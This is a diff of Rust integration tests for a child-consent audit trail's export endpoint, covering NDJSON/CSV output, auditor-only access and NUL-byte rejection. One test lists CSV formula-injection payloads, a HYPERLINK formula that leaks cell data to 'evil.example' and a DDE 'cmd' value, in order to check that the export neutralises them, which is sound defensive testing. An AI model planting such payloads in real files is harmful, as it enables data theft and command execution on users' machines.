@@ -1,4 +1,3 @@
-use api::demo::AMIRA;
 use consent::trace::{GENESIS, TraceEntry, chain_hash};
 use serde_json::{Value, json};
 
@@ -7,18 +6,19 @@ use crate::helpers::*;
 
 #[tokio::test]
 async fn ig_staff_export_the_trace_as_ndjson_and_csv() {
-    // TODO(fixtures): on the demo
-    let app = spawn_demo_app().await;
-    three_reads(&app).await;
-    let ig_token = app.token_for("ig-auditor");
-    let expected = trace(&app, json!({ "childId": AMIRA, "action": "READ" })).await;
+    let app = spawn_app().await;
+    let readers = Readers::new(&app).await;
+    readers.three_reads().await;
+    let ig_token = app.ig_auditor().await.token();
+    let amira = readers.amira.id;
+    let expected = trace(&app, json!({ "childId": amira, "action": "READ" })).await;
     assert_eq!(expected.len(), 2);
 
     // NDJSON, filtered: the same entries as accessTrace, with their links.
     let (status, content_type, body) = export(
         &app,
         Some(&ig_token),
-        &format!("?format=ndjson&childId={AMIRA}&action=READ"),
+        &format!("?format=ndjson&childId={amira}&action=READ"),
     )
     .await;
     assert_eq!(status, 200, "{body}");
@@ -36,7 +36,7 @@ async fn ig_staff_export_the_trace_as_ndjson_and_csv() {
         assert_eq!(line["hash"], entry["hash"], "{line}");
         assert_eq!(line["prev_hash"], entry["prevHash"], "{line}");
         assert_eq!(line["action"], "READ");
-        assert_eq!(line["child_id"], AMIRA.to_string());
+        assert_eq!(line["child_id"], amira.to_string());
         assert_eq!(line["actor"]["subject"], entry["actorSubject"]);
         assert_eq!(line["disclosed"], entry["disclosed"]);
     }
@@ -71,7 +71,7 @@ async fn ig_staff_export_the_trace_as_ndjson_and_csv() {
     let (status, content_type, body) = export(
         &app,
         Some(&ig_token),
-        &format!("?format=csv&childId={AMIRA}&action=READ"),
+        &format!("?format=csv&childId={amira}&action=READ"),
     )
     .await;
     assert_eq!(status, 200, "{body}");
@@ -96,9 +96,14 @@ async fn ig_staff_export_the_trace_as_ndjson_and_csv() {
     }
 
     // Only IG staff; only the formats there are.
-    for persona in ["senco", "parent", "case-officer"] {
-        let (status, _, body) = export(&app, Some(&app.token_for(persona)), "").await;
-        assert_eq!(status, 403, "{persona}: {body}");
+    let others = [
+        readers.senco.clone(),
+        app.family_member("parent-1"),
+        app.case_officer().await,
+    ];
+    for persona in others {
+        let (status, _, body) = export(&app, Some(&persona.token()), "").await;
+        assert_eq!(status, 403, "{}: {body}", persona.subject());
         let body: Value = serde_json::from_str(&body).expect("JSON error");
         assert_eq!(body["errors"][0]["extensions"]["code"], "FORBIDDEN");
     }
@@ -143,8 +148,9 @@ fn csv_cells(row: &str) -> Vec<String> {
 
 #[tokio::test]
 async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
-    // TODO(fixtures): on the demo
-    let app = spawn_demo_app().await;
+    let app = spawn_app().await;
+    let readers = Readers::new(&app).await;
+    let amira = readers.amira.id;
     let subjects = [
         "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
         "+1+cmd|' /C calc'!A0",
@@ -156,7 +162,7 @@ async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
         "plain-subject",
     ];
     for subject in subjects {
-        let mut claims = app.claims_for("senco");
+        let mut claims = readers.senco.claims();
         claims["sub"] = json!(subject);
         let token = app.hs256(&claims);
         let read = app
@@ -164,7 +170,7 @@ async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
                 Some(&token),
                 Some("DIRECT_SUPPORT"),
                 READ,
-                json!({ "id": AMIRA }),
+                json!({ "id": amira }),
             )
             .await;
         assert!(
@@ -174,8 +180,8 @@ async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
     }
     let (status, _, body) = export(
         &app,
-        Some(&app.token_for("ig-auditor")),
-        &format!("?format=csv&childId={AMIRA}&action=READ"),
+        Some(&app.ig_auditor().await.token()),
+        &format!("?format=csv&childId={amira}&action=READ"),
     )
     .await;
     assert_eq!(status, 200, "{body}");
@@ -201,17 +207,18 @@ async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
 
 #[tokio::test]
 async fn a_nul_in_a_trace_filter_is_bad_input() {
-    // TODO(fixtures): on the demo
-    let app = spawn_demo_app().await;
-    three_reads(&app).await;
-    let ig_token = app.token_for("ig-auditor");
+    let app = spawn_app().await;
+    let readers = Readers::new(&app).await;
+    readers.three_reads().await;
+    let ig_token = app.ig_auditor().await.token();
+    let senco = readers.senco.subject();
     for (query, parameter) in [
-        ("?actorSubject=test-senco%00x", "actorSubject"),
-        ("?format=csv&actorSubject=%00", "actorSubject"),
-        ("?childId=%00", "childId"),
-        ("?from=2026-01-01T00:00:00Z%00", "from"),
+        (format!("?actorSubject={senco}%00x"), "actorSubject"),
+        ("?format=csv&actorSubject=%00".to_owned(), "actorSubject"),
+        ("?childId=%00".to_owned(), "childId"),
+        ("?from=2026-01-01T00:00:00Z%00".to_owned(), "from"),
     ] {
-        let (status, _, body) = export(&app, Some(&ig_token), query).await;
+        let (status, _, body) = export(&app, Some(&ig_token), &query).await;
         assert_eq!(status, 400, "{query}: {body}");
         let body: Value = serde_json::from_str(&body).expect("JSON error");
         assert_eq!(
@@ -224,16 +231,16 @@ async fn a_nul_in_a_trace_filter_is_bad_input() {
     let answer = ig(
         &app,
         &trace_query(),
-        json!({ "filter": { "actorSubject": "test-senco\u{0}x" } }),
+        json!({ "filter": { "actorSubject": format!("{senco}\u{0}x") } }),
     )
     .await;
     assert_eq!(answer.codes(), vec!["BAD_USER_INPUT"], "{answer:?}");
     assert!(answer.message().contains("actorSubject"), "{answer:?}");
     assert!(answer.body["data"].is_null(), "{answer:?}");
     // Positive control: the same filter without the NUL works.
-    let senco = trace(&app, json!({ "actorSubject": "test-senco" })).await;
-    assert_eq!(senco.len(), 2, "{senco:#?}");
-    let (status, _, body) = export(&app, Some(&ig_token), "?actorSubject=test-senco").await;
+    let entries = trace(&app, json!({ "actorSubject": senco })).await;
+    assert_eq!(entries.len(), 2, "{entries:#?}");
+    let (status, _, body) = export(&app, Some(&ig_token), &format!("?actorSubject={senco}")).await;
     assert_eq!(status, 200, "{body}");
     assert_eq!(body.lines().count(), 2, "{body}");
 }
